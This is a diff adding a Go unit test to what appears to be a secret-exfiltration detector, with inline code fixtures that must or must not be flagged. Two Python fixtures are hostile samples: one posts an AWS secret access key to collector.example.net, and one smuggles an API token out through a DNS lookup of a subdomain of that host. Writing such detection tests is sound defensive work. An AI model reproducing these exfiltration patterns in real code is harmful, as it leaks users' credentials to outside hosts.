@@ -227,3 +227,27 @@ func TestTokenCommandOutputIsACredential(t *testing.T) {
 		t.Errorf("the gh login token sent by fetch was not found: %+v", fs)
 	}
 }
+
+func TestSendToTheUsersOwnService(t *testing.T) {
+	for _, c := range []struct {
+		src  string
+		lang Lang
+		want bool
+	}{
+		// The user's own service, named at run time: no finding.
+		{"async function p(supabaseUrl, key) {\n  await fetch(`${supabaseUrl}/rest/v1/t`, { body: process.env.SUPABASE_SERVICE_KEY });\n}\n", JS, false},
+		{"import os, requests\nwebhook_url = os.environ['TEAMS_WEBHOOK_URL']\nrequests.post(webhook_url, json={'text': 'hi'}, timeout=int(os.environ['API_TOKEN_TIMEOUT']))\n", Python, false},
+		// A fixed host, or the data in the host name: a finding.
+		{"import os, requests\nrequests.post('https://collector.example.net/x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n", Python, true},
+		{"import os, socket\nk = os.environ['API_TOKEN']\nsocket.gethostbyname(f'{k}.d.collector.example.net')\n", Python, true},
+	} {
+		fs, _ := Analyze(c.src, c.lang, nil)
+		got := false
+		for _, f := range fs {
+			got = got || f.Kind == SecretSend
+		}
+		if got != c.want {
+			t.Errorf("%q: secret sent = %v, want %v (%+v)", c.src, got, c.want, fs)
+		}
+	}
+}
